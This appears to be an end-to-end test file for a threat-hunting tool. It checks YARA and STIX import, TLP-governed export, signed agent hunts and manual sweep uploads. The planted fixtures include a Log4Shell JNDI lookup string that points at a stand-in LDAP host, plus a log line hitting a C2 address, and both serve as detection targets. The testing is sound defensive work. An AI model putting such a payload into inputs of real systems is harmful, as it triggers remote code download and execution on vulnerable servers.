// A hunt end to end as the district would run one, through the binary and a
// real server: the instance imports the fixture YARA rules and a STIX bundle
// (`ungcuu import`), a coordinator opens a hunt for a commune, the commune's
// agent (`ungcuu agent enroll`, `ungcuu agent hunt`) sweeps a tree with
// planted files and log lines and sends the result signed; the hits become
// sightings and an incident is filed for the host. A commune without the
// agent fetches the rules (`ungcuu hunt rules`), runs `ungcuu sweep --json`
// and uploads it (`ungcuu hunt upload`). `ungcuu export` obeys TLP. A
// malformed file changes nothing.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { root, startServer } from '../lib/server.mjs';
import { after, before, bearer, run, test, tokenFor } from './helpers.mjs';
import { stixProblems } from '../tools/stix-schema.mjs';

const EN = { UNGCUU_LANG: 'en', LANG: 'C.UTF-8' };
const T = { timeout: 120_000 };
const data = join(root, 'tests', 'data');
const dir = mkdtempSync(join(tmpdir(), 'ungcuu-hunt-'));
const tree = join(dir, 'tree');
let srv;
let coord;

function put(rel, content) {
  const p = join(tree, rel);
  mkdirSync(join(p, '..'), { recursive: true });
  writeFileSync(p, content);
  return p;
}

before(async () => {
  srv = await startServer();
  coord = bearer(srv, 'dieuphoi');
  // A Java file with a Log4Shell string (the fixture's YARA rule), a web log
  // hitting the C2 address of the OASIS bundle, and a clean file.
  put('srv/app/Exploit.java', 'class E { String s = "${jndi:ldap://x.example.com:1389/E}"; }\n');
  put('var_log/nginx/access.log', [
    '192.0.2.10 - - [24/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 612',
    '10.0.0.0 - - [24/Nov/2026:10:00:01 +0700] "GET /beacon HTTP/1.1" 200 12',
    '',
  ].join('\n'));
  put('home/user/notes.txt', 'nothing here: 8.8.8.8 good.example\n');
});

after(async () => {
  await srv?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const ungcuu = (args, env = {}) => run(args, { env: { ...EN, ...env }, timeout: 60_000 });

test('ungcuu import reads the fixture YARA rules and STIX bundle; a bad file changes nothing', T, async () => {
  const yara = ungcuu(['import', 'yara', join(data, 'sweep', 'expl_log4j_cve_2021_44228.yar'),
    '--db', srv.db, '--org', 'pq', '--tlp', 'GREEN', '--json']);
  assert.equal(yara.status, 0, yara.stderr);
  assert.equal(JSON.parse(yara.stdout)[0].kinds.yara, 1);
  const stix = ungcuu(['import', 'stix', join(data, 'ioc', 'stix', 'indicator-for-c2-ip-address.json'),
    '--db', srv.db, '--org', 'pq', '--tlp', 'GREEN', '--json']);
  assert.equal(stix.status, 0, stix.stderr);
  assert.deepEqual(JSON.parse(stix.stdout)[0].kinds, { ipv4: 1 });

  const before = (await coord.get('/api/v1/indicators?limit=200')).body.items.length;
  const bad = join(dir, 'bad.yar');
  writeFileSync(bad, 'rule ok { condition: true }\nrule broken {\n  condition: $missing\n}\n');
  const r = ungcuu(['import', 'yara', bad, '--db', srv.db]);
  assert.equal(r.status, 1);
  assert.match(r.stderr, /bad\.yar:\d+: rule broken: undefined string/);
  const cut = join(dir, 'cut.json');
  writeFileSync(cut, readFileSync(join(data, 'ioc', 'stix', 'indicator-for-c2-ip-address.json'), 'utf8').slice(0, 200));
  const r2 = ungcuu(['import', 'stix', cut, '--db', srv.db]);
  assert.equal(r2.status, 1);
  assert.match(r2.stderr, /cut\.json: line \d+, column \d+/);
  assert.equal((await coord.get('/api/v1/indicators?limit=200')).body.items.length, before);
});

test('ungcuu export: the TLP label decides what leaves for each recipient', T, async () => {
  await coord.post('/api/v1/indicators', { value: 'red.example', tlp: 'RED' });
  await coord.post('/api/v1/indicators', { value: 'strict.example', tlp: 'AMBER+STRICT' });
  await coord.post('/api/v1/indicators', { value: 'amber.example', tlp: 'AMBER', share_with_codes: ['pq-tamthanh'] });
  await coord.post('/api/v1/indicators', { value: 'clear.example', tlp: 'CLEAR' });
  const values = (to) => {
    const args = ['export', 'csv', '--db', srv.db, '--kind', 'domain'];
    if (to) args.push('--to', to);
    const r = ungcuu(args);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /exported \d+, withheld by TLP \d+/);
    return r.stdout.split('\r\n').slice(1).filter(Boolean).map((l) => l.split(',')[1]).sort();
  };
  assert.deepEqual(values(null), ['clear.example']);
  assert.deepEqual(values('pq-tamthanh'), ['amber.example', 'clear.example']);
  assert.deepEqual(values('pq-longhai'), ['clear.example']);
  assert.deepEqual(values('pq'), ['amber.example', 'clear.example', 'strict.example']);
  const stix = ungcuu(['export', 'stix', '--db', srv.db, '--to', 'pq', '--out', join(dir, 'out.json')]);
  assert.equal(stix.status, 0, stix.stderr);
  const bundle = JSON.parse(readFileSync(join(dir, 'out.json'), 'utf8'));
  assert.equal(bundle.type, 'bundle');
  assert.deepEqual(stixProblems(bundle), [], 'the OASIS STIX 2.1 schemas');
  assert.ok(!JSON.stringify(bundle).includes('red.example'), 'RED never leaves');
  assert.ok(bundle.objects.some((o) => o.pattern_type === 'yara'), 'the YARA rule goes as a pattern');
});

test('the agent runs the hunt: signed result, sightings, an incident filed for the host', T, async () => {
  const hunt = await coord.post('/api/v1/hunts', {
    title: 'Săn Log4Shell và C2', description: 'Theo cảnh báo của tỉnh',
    deadline: new Date(Date.now() + 7 * 86400_000).toISOString(), target_org_codes: ['pq-tamthanh'],
    kinds: ['yara', 'ipv4'],
  });
  assert.equal(hunt.status, 201, hunt.text);
  assert.ok(hunt.body.indicators >= 2);
  const state = join(dir, 'agent');
  const enroll = ungcuu(['agent', 'enroll', '--server', srv.url, '--token', tokenFor(srv, 'tamthanh'),
    '--hostname', 'pc-ketoan-01', '--state', state]);
  assert.equal(enroll.status, 0, enroll.stderr);
  const r = ungcuu(['agent', 'hunt', '--state', state, '--json', tree]);
  assert.equal(r.status, 0, r.stderr);
  const [res] = JSON.parse(r.stdout);
  assert.equal(res.hits, 3, r.stdout);       // the YARA rule twice is one rule on one file + the IP line
  assert.ok(res.incident?.number, 'an incident was filed');
  // Nothing left to do for this host.
  const again = ungcuu(['agent', 'hunt', '--state', state, '--json', tree]);
  assert.equal(again.status, 0, again.stderr);
  assert.deepEqual(JSON.parse(again.stdout), []);

  const h = (await coord.get(`/api/v1/hunts/${hunt.body.id}`)).body;
  const t = h.targets.find((x) => x.org.code === 'pq-tamthanh');
  assert.equal(t.ran, true);
  assert.equal(t.hosts, 1);
  assert.equal(t.hits, 3);
  const paths = h.sightings.map((s) => s.path).sort();
  assert.ok(paths.every((p) => p.startsWith(tree)), `absolute paths: ${paths}`);
  assert.ok(h.sightings.some((s) => s.indicator.kind === 'yara' && s.path.endsWith('Exploit.java')));
  assert.ok(h.sightings.some((s) => s.indicator.value === '10.0.0.0' && s.line === 2 && s.host?.hostname === 'pc-ketoan-01'));

  const tam = bearer(srv, 'tamthanh');
  const inc = (await tam.get(`/api/v1/incidents/${res.incident.id}`)).body;
  assert.equal(inc.status, 'received');
  assert.equal(inc.org.code, 'pq-tamthanh');
  assert.match(inc.title, /Săn Log4Shell và C2/);
  assert.deepEqual(inc.observables.map((o) => `${o.kind}:${o.value}`), ['ip:10.0.0.0']);
  assert.equal(inc.observables[0].matches.indicators[0].value, '10.0.0.0');
  const comp = (await coord.get('/api/v1/compliance')).body.items.find((x) => x.org.code === 'pq-tamthanh');
  assert.ok(comp.last_hunt_at);
  assert.equal(comp.hunt_overdue, false);
});

test('without the agent: hunt rules, ungcuu sweep --json, hunt upload', T, async () => {
  const hunt = (await coord.post('/api/v1/hunts', {
    title: 'Săn thủ công', deadline: new Date(Date.now() + 86400_000).toISOString(),
    target_org_codes: ['pq-longhai'], kinds: ['yara'],
  })).body;
  const env = { UNGCUU_URL: srv.url, UNGCUU_TOKEN: tokenFor(srv, 'dieuphoi') };
  const rulesFile = join(dir, 'hunt-rules.json');
  const rules = ungcuu(['hunt', 'rules', hunt.id, '--out', rulesFile], env);
  assert.equal(rules.status, 0, rules.stderr);
  const sweep = ungcuu(['sweep', '--json', '--rules', rulesFile, tree]);
  assert.equal(sweep.status, 1, sweep.stderr);   // 1: something matched
  const hitsFile = join(dir, 'hits.jsonl');
  writeFileSync(hitsFile, sweep.stdout);
  assert.ok(sweep.stdout.split('\n').filter(Boolean).every((l) => JSON.parse(l).path));
  // The same rules straight from the server, for the token's organisation.
  const direct = ungcuu(['sweep', '--json', '--server', srv.url, tree], { UNGCUU_TOKEN: tokenFor(srv, 'longhai') });
  assert.equal(direct.status, 1, direct.stderr);
  assert.ok(direct.stdout.includes('EXPL_Log4j_CVE_2021_44228_Dec21_Soft'), direct.stdout);
  const noToken = ungcuu(['sweep', '--server', srv.url, tree], { UNGCUU_TOKEN: undefined });
  assert.equal(noToken.status, 2);
  assert.match(noToken.stderr, /UNGCUU_TOKEN/);
  const list = ungcuu(['hunt', 'list'], env);
  assert.equal(list.status, 0, list.stderr);
  assert.match(list.stdout, /Săn thủ công/);
  // The district coordinator is not a member of pq-longhai's side? It is (the
  // commune lies in its subtree): it may upload for the commune.
  const up = ungcuu(['hunt', 'upload', hunt.id, hitsFile, '--hostname', 'pc-longhai-01', '--org', 'pq-longhai', '--json'], env);
  assert.equal(up.status, 0, up.stderr);
  const out = JSON.parse(up.stdout);
  assert.ok(out.hits >= 1);
  assert.equal(out.unknown, 0);
  assert.ok(out.incident.number);
  // Not a target: refused, nothing stored.
  const wrong = ungcuu(['hunt', 'upload', hunt.id, hitsFile, '--hostname', 'x', '--org', 'pq-tamthanh'], env);
  assert.equal(wrong.status, 1);
  assert.match(wrong.stderr, /409|not a target/);
  const h = (await coord.get(`/api/v1/hunts/${hunt.id}`)).body;
  assert.equal(h.runs.length, 1);
  assert.equal(h.runs[0].via, 'upload');
});

// Issue 13 item 4: a file name that is not UTF-8 is sent escaped (\xNN) with
// "path_escaped": true, by the agent and by a sweep's --json for an upload;
// the server takes it, and the sighting's path still names the file.
test('a file name that is not UTF-8 reaches the hunt escaped, by the agent and by an upload', T, async () => {
  const odd = join(dir, 'odd');
  mkdirSync(odd, { recursive: true });
  const name = Buffer.concat([Buffer.from(`${odd}/Expl-`), Buffer.from([0xff]), Buffer.from('.java')]);
  writeFileSync(name, 'class E { String s = "${jndi:ldap://x.example.com:1389/E}"; }\n');
  const want = `${odd}/Expl-\\xff.java`;
  const hunt = (await coord.post('/api/v1/hunts', {
    title: 'Săn tên tệp lạ', deadline: new Date(Date.now() + 86400_000).toISOString(),
    target_org_codes: ['pq-tamthanh', 'pq-longhai'], kinds: ['yara'],
  })).body;
  // the agent enrolled above (pq-tamthanh)
  const r = ungcuu(['agent', 'hunt', '--state', join(dir, 'agent'), '--json', odd]);
  assert.equal(r.status, 0, r.stderr);
  const [res] = JSON.parse(r.stdout);
  assert.ok(res.hits >= 1, r.stdout);
  // the manual way, for Long Hải
  const env = { UNGCUU_URL: srv.url, UNGCUU_TOKEN: tokenFor(srv, 'dieuphoi') };
  const rulesFile = join(dir, 'odd-rules.json');
  assert.equal(ungcuu(['hunt', 'rules', hunt.id, '--out', rulesFile], env).status, 0);
  const sweep = ungcuu(['sweep', '--json', '--rules', rulesFile, odd]);
  assert.equal(sweep.status, 1, sweep.stderr);
  const line = JSON.parse(sweep.stdout.split('\n')[0]);
  assert.equal(line.path, want);
  assert.equal(line.path_escaped, true);
  const hitsFile = join(dir, 'odd-hits.jsonl');
  writeFileSync(hitsFile, sweep.stdout);
  const up = ungcuu(['hunt', 'upload', hunt.id, hitsFile, '--hostname', 'pc-longhai-02', '--org', 'pq-longhai', '--json'], env);
  assert.equal(up.status, 0, up.stderr);
  const h = (await coord.get(`/api/v1/hunts/${hunt.id}`)).body;
  const paths = h.sightings.map((s) => s.path);
  assert.ok(paths.length >= 2, JSON.stringify(paths));
  assert.deepEqual([...new Set(paths)], [want], 'every sighting names the file');
});
